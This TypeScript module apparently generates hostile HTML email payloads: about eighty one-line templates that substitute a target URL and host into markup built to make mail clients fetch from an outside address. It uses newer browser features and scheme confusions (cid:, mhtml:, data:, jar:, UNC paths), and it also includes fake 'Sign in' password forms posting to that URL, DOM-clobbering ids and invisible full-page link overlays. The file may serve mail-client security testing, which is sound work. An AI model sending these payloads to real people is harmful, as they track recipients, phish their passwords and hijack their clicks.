/** Newer features of browsers, and confusions of schemes, by which mail tries to call somebody. */
import type { Template } from './payload.ts';

/** `U` is the address, `H` its host. */
const FEATURES = `
<img attributionsrc="U" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<img attributionsrc src=U>
<a href="mailto:a@b.example" attributionsrc="U">x</a>
<script attributionsrc=U src="data:text/javascript,0"></script>
<img src=U sharedstoragewritable browsingtopics>
<img src=U loading=lazy width=9 height=9 fetchpriority=high decoding=sync>
<p style="height:9000px">x</p><img src=U loading=lazy width=9 height=9>
<img loading=lazy sizes=auto srcset="U 9w, U 99w" width=9>
<iframe src=U loading=lazy></iframe>
<iframe src=U credentialless browsingtopics sharedstoragewritable adauctionheaders></iframe>
<iframe src=U sandbox="allow-scripts allow-same-origin" csp="default-src *" allow="*"></iframe>
<iframe src="cid:a"></iframe><iframe src="about:blank#U"></iframe>
<fencedframe src=U mode=opaque-ads></fencedframe><fencedframe config=U></fencedframe>
<fencedframe><img src=U></fencedframe>
<controlledframe src=U></controlledframe><webview src=U></webview><browser src=U></browser>
<script type=speculationrules>{"prefetch":[{"source":"document","where":{"href_matches":"*"},"eagerness":"immediate"}]}</script><a href=U>x</a>
<script type=speculationrules>{"prefetch":[{"urls":["U"],"eagerness":"eager","requires":["anonymous-client-ip-when-cross-origin"]}]}</script>
<link rel=speculationrules href=U><meta http-equiv=Speculation-Rules content='"U"'>
<script type=webbundle>{"source":"U","resources":["U"]}</script><link rel=webbundle href=U>
<meta http-equiv=Reporting-Endpoints content='default="U"'><meta http-equiv=NEL content='{"report_to":"default","max_age":9}'><img src=x:x>
<meta http-equiv=Report-To content='{"group":"g","max_age":9,"endpoints":[{"url":"U"}]}'><meta http-equiv=Content-Security-Policy content="default-src 'none'; report-to g"><img src=x>
<meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none'; report-uri U"><img src=x>
<meta http-equiv=Accept-CH content="DPR"><meta http-equiv=delegate-ch content="dpr U"><img src=U>
<meta property="og:image" content=U><meta name=msapplication-config content=U><meta itemprop=image content=U>
<meta http-equiv=Link content='<U>; rel="preload"; as="image"'><meta http-equiv=Refresh content="0; U">
<link rel=dns-prefetch href=//H><link rel=preconnect href=//H crossorigin>
<link rel="DNS-Prefetch preconnect prefetch" href="//H">
<a rel="dns-prefetch preconnect prefetch prerender" href=U>x</a>
<p itemscope><link itemprop=image rel="preload" as=image href=U></p>
<link rel=preload as=fetch crossorigin href=U><link rel=preload as=track href=U><link rel=preload as=document href=U>
<link rel=preload as=image imagesizes=1px imagesrcset="U 1w" href="data:,">
<link rel=next href=U><link rel=monetization href=U><link rel=facilitated-payment href=U><link rel=serviceworker href=U>
<link rel="stylesheet" href="cid:a" blocking=render><link rel=mask-icon color=red href=U>
<link rel=stylesheet href="mhtml:U"><link rel=stylesheet href="data:text/css;charset=utf-7,@import 'U'">
<button popovertarget=p popovertargetaction=show>x</button><div id=p popover=manual><img src=U></div>
<div popover=auto style="display:block;background:url(U)">x</div><style>:popover-open,[popover]{background:url(U)}</style>
<button commandfor=d command=show-modal>x</button><dialog id=d closedby=any><img src=U></dialog>
<button commandfor=p command=--own>x</button><button interestfor=p>x</button><a href=# interesttarget=p>x</a><div id=p popover=hint><img src=U></div>
<style>dialog::backdrop{background:url(U)}details::details-content{background:url(U)}</style><dialog open>x</dialog><details open>x</details>
<select><button><selectedcontent></selectedcontent></button><option><img src=U>x</option></select>
<customizable-select><img src=U></customizable-select><install manifesturl=U></install><permission type=camera>x</permission>
<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><slot><img src=U></slot></template></div>
<div><template shadowrootmode=closed shadowrootadoptedstylesheets=U><style>:host{background:url(U)}</style></template></div>
<script type=importmap>{"integrity":{"U":"x"},"imports":{"x":"U"}}</script><link rel=modulepreload href=U as=style>
<script nomodule src=U></script><script type=text/vbscript src=U></script><script language=VBScript src=U></script>
<style type=text/css media="url(U)">p{background:url(U)}</style><p>x
<style title=a blocking=render>p{background:url(U)}</style><p>x
<form action=U method=post><label>Password<input type=password name=p value=x autocomplete=current-password autofocus></label><button>Sign in</button></form>
<form action=U method=get><input name=user value=x autocomplete=username><input type=password value=x><input type=submit value="Sign in"></form>
<form action="mailto:a@b.example?body=U" enctype=text/plain><input type=password name=p><input type=image src=U></form>
<p contenteditable>Password:</p><input type=password form=f><form id=f action=U></form><button type=submit form=f formaction=U formmethod=post>x</button>
<form action="data:text/html,<img src=U>"><button>x</button></form><form method=dialog action=U><button>x</button></form>
<a href="data:text/html,<img src=U>">x</a><a href="blob:U">x</a><a href="filesystem:U">x</a>
<a href="ms-word:ofe|u|U">x</a><a href="search-ms:query=x&crumb=location:U">x</a><a href="intent://H/x#Intent;scheme=http;end">x</a>
<a href="view-source:U">x</a><a href="jar:U!/x">x</a><a href="webcal://H/x">x</a><a href="web+x:U">x</a><a href="file://H/x">x</a><a href="\\\\H\\x">x</a>
<object data="cid:a" type=text/html></object><embed src="cid:a" type=text/html><iframe srcdoc="<base href=U><img src=x>"></iframe>
<object type="application/x-shockwave-flash" data="data:,"><param name=base value=U><embed src=U></object>
<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:image/svg%2bxml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>">
<img src="data:image/png,<?xml version='1.0'?><?xml-stylesheet href='U'?><svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>">
<img src="DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'U';</style></svg>">
<img src="data:image/gif,GIF89a<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>">
<iframe src="data:multipart/x-mixed-replace;boundary=b,--b%0aContent-Type:text/html%0a%0a<img src=U>"></iframe>
<iframe src="data:application/xml,<?xml-stylesheet href='U' type='text/xsl'?><x/>"></iframe>
<iframe src="data:text/html;base64,PGJhc2UgaHJlZj0v"></iframe><img src="mhtml:U!x"><img src="jar:U!/x">
<img src="cid:a" style="background:url(cid:U)"><p style="background:url('cid://H/x')">x</p><table background="cid://H/x"><td>x
<img src="cid:%0a%0dU"><img src="cid:../../U"><img src="cid:a%00U"><img src="cid:&#10;U"><img src=" cid:U">
<img id=adoptedStyleSheets><img name=contentWindow><a id=location href=U>x</a><form id=body name=documentElement action=U><input name=style><input name=children></form>
<a id=parent><a id=parent name=postMessage href=U>x</a><img name=currentScript src=U><object name=ports data=U></object>
<svg><image href=U crossorigin fetchpriority=high></image><a ping=U href=# attributionsrc=U><text>x</text></a></svg>
<svg><style>@scope{image{background:url(U)}}</style><rect width=9 height=9 style="fill:url(U#a);mask:url(U#b)"></rect></svg>
<math><mspace src=U></mspace><mtext><img src=U attributionsrc=U></mtext></math><math background=U><mi style="background:url(U)">x</mi></math>
<div style="position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:url(U)">x</div>
<div style="margin:-900px -900px 0;padding:900px;background:#fff url(U);z-index:2147483647;position:relative">x</div>
<a href=U style="position:absolute;inset:0;opacity:0;z-index:9">x</a><a href=U style="font-size:0;color:transparent">x</a>
<a href=U style="display:block;margin-top:-2000px;height:4000px;transform:scale(99)">x</a>
`
  .trim()
  .split('\n');

export const FEATURE_TEMPLATES: Template[] = FEATURES.map(
  (line) =>
    ({ url, host }) =>
      line.replace(/\bU\b/g, url).replace(/\bH\b/g, host),
);
